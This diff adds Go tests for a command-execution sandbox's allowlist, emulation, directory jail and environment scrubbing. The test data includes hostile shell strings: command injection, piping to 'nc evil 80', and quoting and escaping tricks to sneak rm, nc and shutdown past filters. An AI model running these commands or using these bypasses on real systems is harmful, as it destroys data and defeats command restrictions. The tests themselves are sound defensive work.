@@ -1,6 +1,8 @@
 package sinks
 
 import (
+	"os"
+	"path/filepath"
 	"runtime"
 	"strings"
 	"testing"
@@ -149,3 +151,134 @@ func TestCommand_Timeout(t *testing.T) {
 		t.Errorf("Expected output to contain 'timeout-test', got: %s", output)
 	}
 }
+
+// TestCommand_PolicyAllowlist tests that only allowlisted binaries run
+func TestCommand_PolicyAllowlist(t *testing.T) {
+	if runtime.GOOS == "windows" {
+		t.Skip("Shell policy tests require /bin/sh")
+	}
+	sink := NewCommand()
+	policy := CommandPolicy{AllowedBinaries: []string{"ping", "cat"}}
+
+	tests := []struct {
+		command string
+		blocked string
+	}{
+		{"echo ok", ""},
+		{"cat /dev/null; echo ok", ""},
+		{"ping -c 1 x; id", "id"},
+		{"echo $(whoami)", "whoami"},
+		{"FOO=bar /usr/bin/uname -a", "uname"},
+		{"echo x | nc evil 80", "nc"},
+		{`"nc" evil 80`, "nc"},
+		{`n\c evil 80`, "nc"},
+		{"cat /dev/null | xargs nc evil", "xargs"},
+	}
+	for _, tt := range tests {
+		_, err := sink.ExecuteWithPolicy(tt.command, policy)
+		if tt.blocked == "" {
+			if err != nil && strings.Contains(err.Error(), "sandbox") {
+				t.Errorf("%q: unexpected block: %v", tt.command, err)
+			}
+			continue
+		}
+		if err == nil || !strings.Contains(err.Error(), tt.blocked+" is not allowed") {
+			t.Errorf("%q: expected %s to be blocked, got %v", tt.command, tt.blocked, err)
+		}
+	}
+}
+
+// TestCommand_PolicyEmulateBypasses tests that quoting, escaping or wrapping a
+// dangerous command doesn't get it past emulation, and that under emulation
+// only allowed binaries run
+func TestCommand_PolicyEmulateBypasses(t *testing.T) {
+	if runtime.GOOS == "windows" {
+		t.Skip("Shell policy tests require /bin/sh")
+	}
+	sink := NewCommand()
+	victim := filepath.Join(t.TempDir(), "keep.txt")
+	os.WriteFile(victim, []byte("kept"), 0644)
+	policy := CommandPolicy{
+		EmulateOnly:     true,
+		AllowedBinaries: []string{"cat", "env", "command", "xargs", "find", "busybox", "sh", "rm"},
+	}
+
+	for _, command := range []string{
+		`"rm" -f ` + victim,
+		`r\m -f ` + victim,
+		`'r'm -f ` + victim,
+		"env rm -f " + victim,
+		"env -i FOO=bar rm -f " + victim,
+		"command rm -f " + victim,
+		"echo " + victim + " | xargs rm -f",
+		"echo " + victim + " | xargs -n 1 rm -f",
+		"find " + victim + " -delete",
+		"find " + victim + " -exec rm -f {} \\;",
+		"busybox rm -f " + victim,
+		"sh -c 'rm -f " + victim + "'",
+	} {
+		if _, err := sink.ExecuteWithPolicy(command, policy); err != nil && strings.Contains(err.Error(), "sandbox") {
+			t.Errorf("%q: expected emulation, got %v", command, err)
+		}
+		if _, err := os.Stat(victim); err != nil {
+			t.Fatalf("%q: expected rm to be emulated, but the file was removed", command)
+		}
+	}
+
+	// Binaries not explicitly allowed are emulated too
+	output, err := sink.ExecuteWithPolicy("cat "+victim+"; echo done", CommandPolicy{EmulateOnly: true})
+	if err != nil || output != "done" {
+		t.Errorf("Expected cat to be emulated without an allowlist, got %q, %v", output, err)
+	}
+	output, err = sink.ExecuteWithPolicy("cat "+victim, policy)
+	if err != nil || output != "kept" {
+		t.Errorf("Expected allowed cat to run, got %q, %v", output, err)
+	}
+}
+
+// TestCommand_PolicyEmulateAndJail tests emulated dangerous commands, the working directory and env scrubbing
+func TestCommand_PolicyEmulateAndJail(t *testing.T) {
+	if runtime.GOOS == "windows" {
+		t.Skip("Shell policy tests require /bin/sh")
+	}
+	sink := NewCommand()
+	dir := t.TempDir()
+	victim := filepath.Join(dir, "keep.txt")
+	os.WriteFile(victim, []byte("x"), 0644)
+
+	output, err := sink.ExecuteWithPolicy("rm -f "+victim+"; shutdown -h now; echo done", CommandPolicy{EmulateOnly: true})
+	if err != nil {
+		t.Fatalf("Unexpected error: %v", err)
+	}
+	if _, statErr := os.Stat(victim); statErr != nil {
+		t.Error("Expected rm to be emulated, but the file was removed")
+	}
+	if !strings.Contains(output, "'shutdown -c'") || !strings.HasSuffix(output, "done") {
+		t.Errorf("Unexpected emulated output %q", output)
+	}
+
+	// A repeated segment is replaced where it runs, not where it first appears
+	output, err = sink.ExecuteWithPolicy("echo rm -f "+victim+"; rm -f "+victim+"; echo done", CommandPolicy{EmulateOnly: true})
+	if err != nil || output != "rm -f "+victim+"\ndone" {
+		t.Errorf("Expected only the second rm emulated, got %q, %v", output, err)
+	}
+
+	t.Setenv("FF_TEST_SECRET", "leak")
+	jail := filepath.Join(dir, "jail")
+	output, err = sink.ExecuteWithPolicy("pwd; echo $HOME; echo secret=$FF_TEST_SECRET", CommandPolicy{WorkDir: jail, ScrubEnv: true})
+	if err != nil {
+		t.Fatalf("Unexpected error: %v", err)
+	}
+	if want := jail + "\n" + jail + "\nsecret="; output != want {
+		t.Errorf("Expected %q, got %q", want, output)
+	}
+
+	output, err = sink.ExecuteWithPolicy("echo $FLAG", CommandPolicy{ScrubEnv: true, Env: []string{"FLAG=FLAG{env}"}})
+	if err != nil || output != "FLAG{env}" {
+		t.Errorf("Expected the extra variable to be set, got %q, %v", output, err)
+	}
+
+	if _, err := sink.ExecuteWithPolicy("sleep 2", CommandPolicy{Timeout: 100 * time.Millisecond}); err == nil || !strings.Contains(err.Error(), "timed out after 100ms") {
+		t.Errorf("Expected policy timeout, got %v", err)
+	}
+}